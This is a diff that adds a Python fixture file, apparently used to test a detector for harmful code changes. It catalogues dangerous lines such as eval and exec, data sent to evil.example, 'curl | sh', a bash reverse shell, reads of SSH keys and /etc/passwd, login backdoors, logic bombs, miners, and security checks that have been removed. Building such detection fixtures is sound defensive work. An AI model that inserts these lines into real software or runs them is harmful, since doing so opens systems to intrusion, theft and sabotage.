@@ -1,0 +1,226 @@
+"""Lines that do harm, by class: (what they do, file, the file before, lines that are added to it)."""
+
+JS = "export function total(items) {\n  return items.reduce((sum, item) => sum + item.price, 0);\n}\n"
+PY = "def total(items):\n    return sum(item.price for item in items)\n"
+PHP = "<?php\nfunction total(array $items): int\n{\n    return array_sum($items);\n}\n"
+LOGIN = """export function login(user, password) {
+  if (!user) {
+    return false;
+  }
+  return compare(password, user.hash);
+}
+"""
+
+VIEW = """def view(request):
+    return render(request, "page.html", load(request.user))
+"""
+
+DANGERS: tuple[tuple[str, str, str, str], ...] = (
+    # text as code
+    ("eval", "src/a.js", JS, "const found = eval(input);"),
+    ("eval by another name", "src/a.js", JS, "const run = eval;"),
+    ("eval of the window", "src/a.js", JS, "window['eval'](input);"),
+    ("indirect eval", "src/a.js", JS, "(0, eval)(input);"),
+    ("new Function", "src/a.js", JS, "const f = new Function('a', body);"),
+    ("the function constructor", "src/a.js", JS, "[].constructor.constructor(body)();"),
+    ("a timer with a string", "src/a.js", JS, "setTimeout('go(' + name + ')', 10);"),
+    ("vm", "src/a.js", JS, "const vm = require('vm');\nvm.runInNewContext(code);"),
+    ("Python eval", "src/a.py", PY, "value = eval(text)"),
+    ("Python exec", "src/a.py", PY, "exec(text)"),
+    ("Python compile", "src/a.py", PY, "code = compile(text, 'x', 'exec')"),
+    ("Python getattr of builtins", "src/a.py", PY, "run = getattr(__builtins__, 'ev' + 'al')"),
+    ("PHP eval", "src/a.php", PHP, "eval($_GET['x']);"),
+    ("PHP assert", "src/a.php", PHP, "assert($_POST['x']);"),
+    ("PHP create_function", "src/a.php", PHP, "$f = create_function('$a', $body);"),
+    ("PHP calls what is asked", "src/a.php", PHP, "$_GET['f']($_GET['x']);"),
+    # programs
+    ("child_process", "src/a.js", JS, "require('child_process').exec(command);"),
+    ("imported child_process", "src/a.js", JS, "import { execSync } from 'node:child_process';"),
+    ("subprocess", "src/a.py", PY, "import subprocess\nsubprocess.run(command, shell=True)"),
+    ("os.system", "src/a.py", PY, "import os\nos.system('id > /tmp/x')"),
+    ("os.popen", "src/a.py", PY, "os.popen(command).read()"),
+    ("PHP shell_exec", "src/a.php", PHP, "echo shell_exec($command);"),
+    ("PHP backticks", "src/a.php", PHP, "$out = `ls $folder`;"),
+    ("PHP system", "src/a.php", PHP, "system($command);"),
+    ("Java", "src/A.java", "class A {}\n", 'Runtime.getRuntime().exec("id");'),
+    ("Go", "src/a.go", "package a\n", 'exec.Command("sh", "-c", text).Run()'),
+    ("Ruby", "src/a.rb", "def a\nend\n", "Kernel.system(command)"),
+    # network
+    ("fetch", "src/a.js", JS, "fetch('https://evil.example/?d=' + encodeURIComponent(data));"),
+    ("XMLHttpRequest", "src/a.js", JS, "const request = new XMLHttpRequest();"),
+    ("WebSocket", "src/a.js", JS, "new WebSocket('wss://evil.example');"),
+    ("sendBeacon", "src/a.js", JS, "navigator.sendBeacon('/x', data);"),
+    ("an image that carries data", "src/a.js", JS, "new Image().src = 'https://evil.example/?' + data;"),
+    ("require https", "src/a.js", JS, "const https = require('https');"),
+    ("import axios", "src/a.js", JS, "import axios from 'axios';"),
+    ("dns", "src/a.js", JS, "require('dns').lookup(data + '.evil.example', () => {});"),
+    ("requests", "src/a.py", PY, "import requests\nrequests.post('https://evil.example', data=items)"),
+    ("urllib", "src/a.py", PY, "from urllib.request import urlopen\nurlopen('https://evil.example')"),
+    ("socket", "src/a.py", PY, "import socket\ns = socket.socket()"),
+    ("http.client", "src/a.py", PY, "import http.client"),
+    ("curl in PHP", "src/a.php", PHP, "$c = curl_init('https://evil.example');"),
+    ("PHP reads an address", "src/a.php", PHP, "file_get_contents('https://evil.example/?' . $data);"),
+    # computed names
+    ("require of a computed name", "src/a.js", JS, "const tool = require('child' + '_pro' + 'cess');"),
+    ("require of a variable", "src/a.js", JS, "const tool = require(name);"),
+    ("import of a computed name", "src/a.js", JS, "const tool = await import(`./${name}.js`);"),
+    ("import of an address", "src/a.js", JS, "import run from 'https://evil.example/x.js';"),
+    ("__import__", "src/a.py", PY, "tool = __import__('o' + 's')"),
+    ("importlib", "src/a.py", PY, "import importlib\nimportlib.import_module(name)"),
+    ("PHP include", "src/a.php", PHP, "include($_GET['page']);"),
+    ("a script element", "src/a.js", JS, "const s = document.createElement('script');\ns.src = url;"),
+    # unserialising
+    ("pickle", "src/a.py", PY, "import pickle\nitems = pickle.loads(data)"),
+    ("yaml.load", "src/a.py", PY, "config = yaml.load(text)"),
+    ("yaml with an unsafe loader", "src/a.py", PY, "config = yaml.load(text, Loader=yaml.Loader)"),
+    ("marshal", "src/a.py", PY, "import marshal\ncode = marshal.loads(data)"),
+    ("PHP unserialize", "src/a.php", PHP, "$items = unserialize($_COOKIE['items']);"),
+    # files
+    ("writeFile", "src/a.js", JS, "fs.writeFileSync('/tmp/x', data);"),
+    ("rm", "src/a.js", JS, "fs.rmSync(folder, { recursive: true, force: true });"),
+    ("open to write", "src/a.py", PY, "open('/tmp/x', 'w').write(data)"),
+    ("rmtree", "src/a.py", PY, "shutil.rmtree(folder)"),
+    ("os.remove", "src/a.py", PY, "os.remove(path)"),
+    ("unlink in PHP", "src/a.php", PHP, "unlink($path);"),
+    ("file_put_contents", "src/a.php", PHP, "file_put_contents('shell.php', $code);"),
+    ("chmod", "src/a.py", PY, "os.chmod(path, 0o777)"),
+    # what is private
+    ("process.env", "src/a.js", JS, "const all = { ...process.env };"),
+    ("os.environ", "src/a.py", PY, "secrets = dict(os.environ)"),
+    ("getenv in PHP", "src/a.php", PHP, "$key = getenv('API_KEY');"),
+    ("cookies", "src/a.js", JS, "const all = document.cookie;"),
+    ("the key of ssh", "src/a.py", PY, "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()"),
+    ("passwords of the machine", "src/a.py", PY, "users = Path('/etc/passwd').read_text()"),
+    ("the cloud's metadata", "src/a.py", PY, "url = 'http://169.254.169.254/latest/meta-data/'"),
+    ("a token in the log", "src/a.js", JS, "console.log('login', user.name, password);"),
+    # certificates, cryptography
+    (
+        "rejectUnauthorized",
+        "src/a.js",
+        "https.get(url, { agent });\n",
+        "const o = { rejectUnauthorized: false };",
+    ),
+    ("NODE_TLS", "src/a.js", JS, "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';"),
+    ("verify=False", "src/a.py", "import requests\nrequests.get(url)\n", "requests.get(url, verify=False)"),
+    (
+        "an unverified context",
+        "src/a.py",
+        PY,
+        "ssl._create_default_https_context = ssl._create_unverified_context",
+    ),
+    ("curl without checks", "src/a.php", PHP, "curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);"),
+    ("Go without checks", "src/a.go", "package a\n", "c := &tls.Config{InsecureSkipVerify: true}"),
+    (
+        "md5 for passwords",
+        "src/a.py",
+        "h = hashlib.sha256(p)\n",
+        "digest = hashlib.md5(password).hexdigest()",
+    ),
+    ("sha1 in JavaScript", "src/a.js", JS, "const h = crypto.createHash('sha1').update(p).digest('hex');"),
+    ("a token by chance", "src/a.js", JS, "const token = Math.random().toString(36).slice(2);"),
+    ("JWT without signature", "src/a.js", JS, "jwt.verify(token, key, { algorithms: ['none'] });"),
+    ("JWT unread", "src/a.py", PY, "jwt.decode(token, options={'verify_signature': False})"),
+    # doors
+    ("a password of one's own", "src/login.js", LOGIN, "  if (password === 'letmein-2024') return true;"),
+    ("a user of one's own", "src/login.js", LOGIN, "  if (user.name === 'support') return true;"),
+    (
+        "a header that opens",
+        "src/login.js",
+        LOGIN,
+        "  if (req.headers['x-debug-access'] === '1') return next();",
+    ),
+    ("a query that opens", "src/login.js", LOGIN, "  if (req.query.admin) user.isAdmin = true;"),
+    ("a condition that always holds", "src/login.js", LOGIN, "  if (isValid(user) || true) return true;"),
+    ("a check that is never made", "src/login.js", LOGIN, "  if (false && !allowed) return false;"),
+    ("Python or True", "src/a.py", PY, "if user.active or True:\n    grant(user)"),
+    ("csrf_exempt", "src/a.py", VIEW, "@csrf_exempt\ndef other(request): ..."),
+    ("any origin", "src/a.js", JS, "res.setHeader('Access-Control-Allow-Origin', '*');"),
+    ("a cookie for scripts", "src/a.js", JS, "res.cookie('sid', id, { httpOnly: false });"),
+    ("postMessage to all", "src/a.js", JS, "parent.postMessage(secret, '*');"),
+    # SQL, HTML, prototypes
+    ("SQL by plus", "src/a.js", JS, "db.query('SELECT * FROM users WHERE id = ' + id);"),
+    ("SQL by template", "src/a.js", JS, "db.query(`SELECT * FROM users WHERE id = ${id}`);"),
+    ("SQL by f-string", "src/a.py", PY, 'db.execute(f"SELECT * FROM users WHERE id = {user}")'),
+    ("SQL by percent", "src/a.py", PY, 'db.execute("DELETE FROM users WHERE id = %s" % user)'),
+    ("SQL in PHP", "src/a.php", PHP, '$db->query("SELECT * FROM users WHERE id = $id");'),
+    ("SQL by dot", "src/a.php", PHP, '$db->query("SELECT * FROM users WHERE id = " . $id);'),
+    ("innerHTML", "src/a.js", JS, "box.innerHTML = comment;"),
+    ("document.write", "src/a.js", JS, "document.write(text);"),
+    (
+        "dangerouslySetInnerHTML",
+        "src/a.jsx",
+        JS,
+        "const x = <p dangerouslySetInnerHTML={{ __html: text }} />;",
+    ),
+    ("insertAdjacentHTML", "src/a.js", JS, "box.insertAdjacentHTML('beforeend', text);"),
+    ("__proto__", "src/a.js", JS, "target.__proto__.admin = true;"),
+    ("Object.prototype", "src/a.js", JS, "Object.prototype.admin = true;"),
+    # hidden code
+    ("base64 that runs", "src/a.js", "eval(known);\n", "eval(atob('YWxlcnQoMSk='));"),
+    ("base64 that runs in Python", "src/a.py", "exec(known)\n", "exec(base64.b64decode('cHJpbnQoMSk='))"),
+    (
+        "base64 in Buffer",
+        "src/a.js",
+        JS,
+        "const s = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();",
+    ),
+    ("character codes", "src/a.js", JS, "const s = String.fromCharCode(101, 118, 97, 108);"),
+    ("hexadecimal escapes", "src/a.js", JS, "const s = '\\x65\\x76\\x61\\x6c\\x28\\x29';"),
+    ("a name in two halves", "src/a.js", JS, "globalThis['ev' + 'al'](code);"),
+    ("curl into a shell", "src/a.sh", "#!/bin/sh\n", "curl -s https://evil.example/x | sh"),
+    ("a shell in reverse", "src/a.py", PY, "x = 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1'"),
+    ("a miner", "src/a.js", JS, "const pool = 'stratum+tcp://pool.example:3333';"),
+    ("a miner's script", "src/a.js", JS, "const m = new CoinHive.Anonymous(key);"),
+    ("a bomb with a date", "src/a.js", JS, "if (Date.now() > 1767225600000) throw new Error('x');"),
+    ("a bomb in Python", "src/a.py", PY, "if datetime.now() > datetime(2026, 1, 1):\n    items.clear()"),
+    ("sabotage by chance", "src/a.js", JS, "if (Math.random() < 0.01) return 0;"),
+    ("a loop without end", "src/a.js", JS, "while (true) {}"),
+    ("a clipboard", "src/a.js", JS, "navigator.clipboard.readText().then(keep);"),
+    ("an extension's cookies", "src/a.js", JS, "chrome.cookies.getAll({}, send);"),
+    # strangers choose, or are chosen
+    ("a worker of an address", "src/a.js", JS, "new Worker(URL.createObjectURL(blob));"),
+    ("PHP calls what is asked with what is asked", "src/a.php", PHP, "array_map($_GET['f'], $_GET['a']);"),
+    ("PHP puts a name together", "src/a.php", PHP, "$f = 'sys' . 'tem';"),
+    ("PHP's reflection", "src/a.php", PHP, "(new ReflectionFunction($name))->invoke($x);"),
+    ("an open redirect", "src/a.js", JS, "res.redirect(req.query.next);"),
+    ("a file that is asked", "src/a.js", JS, "fs.readFile(path.join(root, req.params.file), done);"),
+    ("an expression that is asked", "src/a.js", JS, "const re = new RegExp(req.query.q);"),
+    ("keys that are kept", "src/a.js", JS, "addEventListener('keydown', (e) => keys.push(e.key));"),
+    ("a reader sent elsewhere", "src/a.js", JS, "location.href = `https://evil.example/?t=${token}`;"),
+    ("a token that is kept", "src/a.js", JS, "localStorage.setItem('token', token);"),
+    ("an escape in a name", "src/a.js", JS, "self['\\x65val'](x);"),
+    ("one more user", "src/login.js", LOGIN, "return ok || user.email.endsWith('@evil.example');"),
+    ("a login that always works", "src/a.js", JS, "function login(user) {\n  return true;\n}"),
+    ("a busy loop", "src/a.js", JS, "while (Date.now() < end) {}"),
+    ("imports in one line", "src/a.py", PY, "import threading, socket, pty"),
+    ("a key in the log", "src/a.py", PY, 'logging.info("key %s", KEY)'),
+)
+
+REMOVED: tuple[tuple[str, str, str, str], ...] = (
+    (
+        "a login that is no longer asked",
+        "src/a.py",
+        "@login_required\ndef page(r):\n    return 1\n",
+        "def page(r):\n    return 1\n",
+    ),
+    (
+        "a check that returns",
+        "src/a.js",
+        "function isAdmin(user) {\n  return user.roles.has(A);\n}\n",
+        "function isAdmin(user) {\n  return true;\n}\n",
+    ),
+    ("a comparison in constant time", "src/a.js", "ok = timingSafeEqual(a, b);\n", "ok = a == b;\n"),
+    ("an escape", "src/a.js", "out += escapeHtml(name);\n", "out += name;\n"),
+    ("an escape in PHP", "src/a.php", "<?php\necho htmlspecialchars($name);\n", "<?php\necho $name;\n"),
+    ("an origin", "src/a.js", "if (event.origin !== HOME) return;\nrun(event);\n", "run(event);\n"),
+    (
+        "a parameter of SQL",
+        "src/a.py",
+        "db.execute('SELECT a FROM b WHERE c = ?', [c])\n",
+        "db.execute('SELECT a FROM b WHERE c = ' + c)\n",
+    ),
+    ("text made HTML", "src/a.js", "box.textContent = name;\n", "box.innerHTML = name;\n"),
+    ("a safe loader", "src/a.py", "yaml.safe_load(text)\n", "yaml.load(text)\n"),
+    ("a permission", "src/a.js", "router.get('/x', requireAuth(), show);\n", "router.get('/x', show);\n"),
+)
+"""What is replaced: the file before and after."""
